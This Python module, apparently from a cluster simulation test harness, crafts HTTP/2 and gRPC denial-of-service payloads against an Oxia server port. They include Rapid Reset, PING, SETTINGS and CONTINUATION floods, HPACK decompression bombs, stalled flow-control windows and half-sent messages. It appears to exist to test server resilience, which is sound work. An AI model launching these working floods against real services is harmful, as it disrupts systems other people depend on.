"""What Oxia's port is attacked with: HTTP/2's known floods, and calls of gRPC that ask for much and take nothing."""

import asyncio
import struct
from functools import cache
from typing import Any, Final

from hpack import Encoder

from antiphon.gateway.protobuf import Message, encode
from antiphon.oxia import frames as f
from antiphon.oxia import messages as m
from antiphon.simulation.cluster.oxia_client import SERVICES

MIB: Final = 1024 * 1024
STREAMS: Final = 1_024  # that a connection may have open
HELLO: Final = f.PREFACE + f.settings_frame([])
SHUT: Final = f.PREFACE + f.settings_frame([(f.INITIAL_WINDOW_SIZE, 0)])  # no answer may be sent
PREFIX: Final = struct.Struct(">BI")


def call_headers(stream_id: int, method: str, flags: int = f.END_HEADERS, more: bytes = b"") -> bytes:
    """The beginning of a call."""
    told = {
        ":method": "POST",
        ":path": SERVICES[0] + method,
        ":authority": "a",
        "content-type": "application/grpc",
    }
    block = b"".join(f.literal(name.encode(), value.encode()) for name, value in told.items())
    return f.frame(f.HEADERS, flags, stream_id, block + more)


def call_of(stream_id: int, method: str, message: Message, more: bytes = b"") -> bytes:
    """A whole call with one message."""
    data = bytes(encode(message))
    body = PREFIX.pack(0, len(data)) + data
    parts = [body[at : at + f.FRAME_BYTES_DEFAULT] for at in range(0, len(body), f.FRAME_BYTES_DEFAULT)]
    sent = [
        f.frame(f.DATA, f.END_STREAM if at == len(parts) - 1 else 0, stream_id, part)
        for at, part in enumerate(parts)
    ]
    return call_headers(stream_id, method, more=more) + b"".join(sent)


@cache
def resets() -> bytes:
    """Calls that are given up as soon as they have begun (CVE-2023-44487)."""
    return HELLO + b"".join(
        call_of(2 * n + 1, "Write", m.WriteRequest(shard=1)) + f.rst_stream(2 * n + 1, f.CANCEL)
        for n in range(20_000)
    )


@cache
def floods() -> tuple[bytes, ...]:
    """Frames that ask for work, and for answers which nobody reads."""
    begun = HELLO + b"".join(call_headers(2 * n + 1, "WriteStream") for n in range(STREAMS))
    windows = f.settings_frame([(f.INITIAL_WINDOW_SIZE, 70_000 + n) for n in range(2_730)])
    endless = call_headers(1, "Write", flags=0)
    return (
        HELLO + f.frame(f.PING, 0, 0, bytes(8)) * 200_000,
        HELLO + f.settings_frame([]) * 200_000,
        begun + windows * 100,
        HELLO + endless + f.frame(f.CONTINUATION, 0, 1) * 200_000,
        HELLO + endless + f.frame(f.CONTINUATION, 0, 1, b"x" * 1000) * 1_000,
        HELLO + call_headers(1, "WriteStream") + f.frame(f.DATA, 0, 1) * 200_000,
        HELLO + call_headers(1, "WriteStream") + f.frame(f.DATA, 0, 1, b"\x00") * 200_000,
        HELLO + f.frame(f.PRIORITY, 0, 1, bytes(5)) * 200_000,
    )


@cache
def packed_headers() -> tuple[bytes, ...]:
    """Blocks of headers that cost much to read, or would become large."""
    huffman = Encoder().encode([("a", "a" * 16_000)], huffman=True)
    stored = f.literal(b"x", b"y" * 4_000).replace(b"\x00", b"\x40", 1)  # and put it into the table
    blocks = (
        huffman,
        stored + b"\xbe" * 12_000,  # as often as the block has room
        b"\x82" * 380,
        b"\x20" * 16_000,  # the table's size, again and again
    )
    return tuple(
        HELLO
        + b"".join(f.frame(f.HEADERS, f.END_HEADERS | f.END_STREAM, 2 * n + 1, block) for n in range(400))
        for block in blocks
    )


@cache
def large_requests(shard_id: int) -> bytes:
    """Writes of 10,000 puts, and reads of 10,000 keys."""
    puts = m.WriteRequest(
        shard=shard_id, puts=[m.PutRequest(key=b"%06d" % n, value=bytes(20)) for n in range(10_000)]
    )
    gets = m.ReadRequest(shard=shard_id, gets=[m.GetRequest(key=b"%06d" % n) for n in range(10_000)])
    calls = (("Write", puts), ("Read", gets)) * 2
    return HELLO + b"".join(call_of(2 * n + 1, *call) for n, call in enumerate(calls))


class OxiaAttackers:
    """Connections to the Oxia port of one node; none of them reads anything."""

    node: Any
    table: int
    other: int
    writers: list[asyncio.StreamWriter]

    async def _oxia(self, data: bytes) -> None:
        host, _, port = self.node.oxia.rpartition(":")
        _, writer = await asyncio.open_connection(host, int(port), limit=1000)
        self.writers.append(writer)
        writer.write(data)

    async def rapid_resets(self) -> None:
        for _ in range(10):
            await self._oxia(resets())

    async def frame_floods(self) -> None:
        for flood in floods():
            for _ in range(3):
                await self._oxia(flood)

    async def header_floods(self) -> None:
        for flood in packed_headers():
            for _ in range(3):
                await self._oxia(flood)

    async def idle_calls(self) -> None:
        """As many calls as a connection may have, which say nothing; and others with all the headers that there may be."""
        large = f.literal(b"x", b"y" * 12_000)
        calls = ("Write", "Read", "WriteStream", "GetNotifications")
        for number in range(30):
            more = large if number % 3 == 0 else b""
            begun = (call_headers(2 * n + 1, calls[n % 4], more=more) for n in range(STREAMS))
            await self._oxia(HELLO + b"".join(begun))

    async def shut_windows(self) -> None:
        """Answers of all kinds which may not be sent."""
        scan, follow = (
            m.RangeRequest(shard=self.table),
            m.NotificationsRequest(shard=self.table, start_offset_exclusive=-1),
        )
        gets = m.ReadRequest(shard=self.table, gets=[m.GetRequest(key=b"large", include_value=True)] * 8)
        sequence = m.GetSequenceUpdatesRequest(shard=self.table, key=b"k")
        calls = (
            ("RangeScan", scan),
            ("Read", gets),
            ("List", scan),
            ("GetNotifications", follow),
            ("GetSequenceUpdates", sequence),
        )
        for hello in (SHUT, HELLO):
            for _ in range(5):
                await self._oxia(hello + b"".join(call_of(2 * n + 1, *calls[n % 5]) for n in range(STREAMS)))

    async def small_windows(self) -> None:
        """Answers of which one byte after the other may be sent."""
        scan = m.RangeRequest(shard=self.table)
        for _ in range(3):
            await self._oxia(HELLO + b"".join(call_of(2 * n + 1, "RangeScan", scan) for n in range(STREAMS)))
            self.writers[-1].write(f.window_update(0, 1) * 100_000)

    async def half_messages(self) -> None:
        """Messages that are announced, and sent in part."""
        for size in (8 * MIB, 0xFFFFFFFF):
            for _ in range(20):
                parts = [f.frame(f.DATA, 0, 1, bytes(f.FRAME_BYTES_DEFAULT))] * 63
                begun = f.frame(f.DATA, 0, 1, PREFIX.pack(0, size))
                await self._oxia(HELLO + call_headers(1, "Write") + begun + b"".join(parts))

    async def large_calls(self) -> None:
        await self._oxia(large_requests(self.other))

    async def feeds(self) -> None:
        """Followers of what the others write."""
        follow = m.NotificationsRequest(shard=self.table)
        for _ in range(3):
            await self._oxia(
                HELLO + b"".join(call_of(2 * n + 1, "GetNotifications", follow) for n in range(STREAMS))
            )

    def oxia_attacks(self) -> tuple[Any, ...]:
        """All of them."""
        return (
            self.rapid_resets, self.frame_floods, self.header_floods, self.idle_calls, self.shut_windows,
            self.small_windows, self.half_messages, self.large_calls, self.feeds,
        )  # fmt: skip
